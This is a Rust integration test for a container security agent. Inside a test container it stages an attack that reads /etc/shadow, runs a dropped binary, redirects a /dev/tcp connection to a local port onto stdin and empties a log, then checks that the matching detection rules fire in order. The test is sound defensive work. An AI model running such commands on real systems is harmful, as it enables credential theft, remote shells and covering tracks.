//! An attack, told as one story to a receiver that is away at first.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::sync::mpsc;
use std::thread;
use std::time::{Duration, Instant};

use serde_json::Value;
use testkit::watch::is_whole;

use super::place::{Container, wait};

/// So long nobody is there who would take an alert.
const AWAY: Duration = Duration::from_secs(10);

const RULES: &str = r#"
- list: shells
  items: [sh, bash, dash]
- macro: spawned
  condition: (evt.type in (execve, execveat) and evt.res = SUCCESS)
- macro: in_container
  condition: (container.id != host)
- rule: Shell below a web server
  desc: A web server runs a shell.
  condition: spawned and in_container and proc.name in (shells) and proc.pname = httpd
  output: A web server runs a shell | command=%proc.cmdline parent=%proc.pname
  priority: WARNING
  tags: [mitre_execution, T1059.004]
- rule: Secrets read
  desc: The passwords' file is read.
  condition: evt.type in (open, openat) and evt.is_open_read=true and fd.name = /etc/shadow and in_container
  output: Secrets are read | file=%fd.name command=%proc.cmdline
  priority: WARNING
  tags: [T1555]
- rule: Dropped binary
  desc: A file in /tmp is run.
  condition: spawned and in_container and proc.exepath endswith /dropped
  output: A dropped file is run | exe=%proc.exepath
  priority: CRITICAL
  tags: [T1105]
- rule: Reverse shell
  desc: Standard input is a connection.
  condition: evt.type in (dup, dup2, dup3) and in_container and evt.rawres in (0, 1, 2) and fd.type in (ipv4, ipv6)
  output: A connection becomes standard input or output | connection=%fd.name
  priority: CRITICAL
  tags: [T1059]
- rule: Log cleared
  desc: A log is emptied.
  condition: evt.type in (open, openat) and evt.is_open_write=true and fd.filename = access_log and evt.arg.flags contains O_TRUNC
  output: A log is emptied | file=%fd.name
  priority: WARNING
  tags: [T1070]
"#;

const CONFIG: &str = "
scope: {cgroups: [CGROUP]}
outputs: [{kind: file, path: HERE/rows}]
tables: [process_exit]
store: {directory: 'off'}
http: {listen: 127.0.0.1:0}
flight: {listen: 'off'}
detection:
  rules: [HERE/rules.yaml]
  directory: HERE/alerts
  receivers:
    - backoff: {first: 200ms, most: 1s}
      to: {http: {url: http://127.0.0.1:PORT/alerts, format: {fathom: true}}}
";

/// What the attacker does. `httpd` is a shell in disguise, and `exec 3<>/dev/tcp/…` a connection.
const ATTACK: &str = r#"
cp /bin/bash httpd; cp /bin/true dropped
cat > attack.sh <<'END'
read secret < /etc/shadow
./dropped
exec 3<>/dev/tcp/127.0.0.1/LISTENER
exec 0<&3
: > access_log
END
./httpd -c 'bash attack.sh; true'
"#;

#[test]
fn an_attack_is_one_story_for_a_receiver_that_was_away() {
    let test = "an_attack_is_one_story_for_a_receiver_that_was_away";
    let Some(container) = Container::new(test) else { return };
    std::fs::write(container.directory.join("rules.yaml"), RULES).expect("written");
    std::fs::write(container.directory.join("access_log"), "GET /").expect("written");
    // The port is ours, but nobody answers on it yet.
    let port = TcpListener::bind("127.0.0.1:0").expect("a port").local_addr().expect("one").port();
    let away = Instant::now();
    let agent = container.agent(&CONFIG.replace("PORT", &port.to_string()));

    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let peer = listener.local_addr().expect("one").port();
    let script = ATTACK.replace("LISTENER", &peer.to_string());
    let done = container.run(&script);
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
    wait("a word on the receiver", || agent.said().contains("cannot be delivered to http"));
    thread::sleep(AWAY.saturating_sub(away.elapsed()));

    let (told, alerts) = mpsc::channel();
    let door = TcpListener::bind(("127.0.0.1", port)).expect("the port is still free");
    thread::spawn(move || take(&door, &told));
    let mut story: Vec<Value> = Vec::new();
    while story.last().is_none_or(|last| last["rule"] != "Log cleared") {
        let alert = alerts.recv_timeout(Duration::from_secs(30)).expect("another alert");
        // At least once: what was sent twice is the same.
        if !story.contains(&alert) {
            story.push(alert);
        }
    }
    wait("a word on the receiver", || agent.said().contains("http takes alerts again"));
    let said = agent.end();
    assert!(is_whole(&said), "{said}");

    println!("{:#?}", story.iter().map(|it| it["output"].to_string()).collect::<Vec<_>>());
    let rules: Vec<&str> = story.iter().map(|it| it["rule"].as_str().unwrap()).collect();
    let expected = [
        "Shell below a web server",
        "Secrets read",
        "Dropped binary",
        "Reverse shell",
        "Log cleared",
    ];
    assert_eq!(rules, expected, "{story:#?}");
    let times: Vec<&str> = story.iter().map(|it| it["time"].as_str().unwrap()).collect();
    assert!(times.is_sorted(), "{times:?}");
    // One tree: each alert's process is the web server's shell or below it.
    let shell = &story[0]["fathom"]["tree"][0]["process"];
    for alert in &story {
        let tree = alert["fathom"]["tree"].as_array().expect("a tree");
        assert!(tree.iter().any(|it| it["process"] == *shell), "{alert:#}");
        assert!(tree.iter().any(|it| it["comm"] == "httpd"), "{alert:#}");
        assert_eq!(alert["fathom"]["lost"], 0);
        assert_eq!(alert["fathom"]["container"], container.id.as_str());
    }
    let connection = story[3]["output_fields"]["fd.name"].as_str().unwrap();
    assert!(connection.ends_with(&format!("->127.0.0.1:{peer}")), "{connection}");
}

/// Takes alerts, each in a POST of its own, and says so.
fn take(door: &TcpListener, told: &mpsc::Sender<Value>) {
    for stream in door.incoming() {
        let Ok(stream) = stream else { return };
        let told = told.clone();
        thread::spawn(move || {
            let mut answer = stream.try_clone().expect("a second handle");
            let mut reader = BufReader::new(stream);
            loop {
                let mut length = 0;
                loop {
                    let mut line = String::new();
                    if reader.read_line(&mut line).unwrap_or(0) == 0 {
                        return;
                    }
                    let line = line.trim().to_ascii_lowercase();
                    if let Some(value) = line.strip_prefix("content-length:") {
                        length = value.trim().parse().expect("a length");
                    }
                    if line.is_empty() {
                        break;
                    }
                }
                let mut body = vec![0; length];
                if reader.read_exact(&mut body).is_err() {
                    return;
                }
                let _ = told.send(serde_json::from_slice(&body).expect("JSON"));
                let _ = answer.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
            }
        });
    }
}
